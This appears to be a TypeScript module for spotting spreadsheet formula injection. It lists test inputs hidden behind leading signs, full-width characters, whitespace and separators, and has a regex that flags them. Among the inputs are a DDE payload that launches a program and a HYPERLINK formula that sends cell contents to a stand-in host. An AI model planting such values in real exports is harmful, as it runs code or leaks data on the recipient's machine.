/** What a spreadsheet program would run, by how it is hidden. */
export const hostileWords: Readonly<Record<string, string>> = {
  "an equals sign": "=1+1",
  "a plus": "+1+1",
  "a minus": "-1+1",
  "an at": "@SUM(A1)",
  "a program": "=cmd|' /C calc'!A0",
  "a link that carries cells away": '=HYPERLINK("http://x.example/?"&A1,"klik")',
  "a leading tab": "\t=1+1",
  "a leading end of line": "\r=1+1",
  "leading blanks": "  =1+1",
  "a wide equals sign": "\uFF1D1+1",
  "a wide plus": "\uFF0B1+1",
  "a wide minus": "\uFF0D1+1",
  "a wide at": "\uFF20SUM(A1)",
  "behind a semicolon": "Budi;=1+1",
  "behind a comma": "Budi,=1+1",
  "behind a tab": "Budi\t=1+1",
  "behind a new line": "Budi\n=1+1",
  "behind a closing quote": 'Budi",=1+1',
  "behind an apostrophe of its own": "'=1+1",
  "blanks behind a semicolon": "Budi;  @SUM(A1)",
};

/** Begins a formula where any of the signs that part cells is taken to. */
export const runs = (cell: string): boolean => /^[\s"]*(?:[=@\uFF1D\uFF0B\uFF0D\uFF20]|[+-](?!\d+(?:[.,]\d+)?\s*$))/.test(cell);
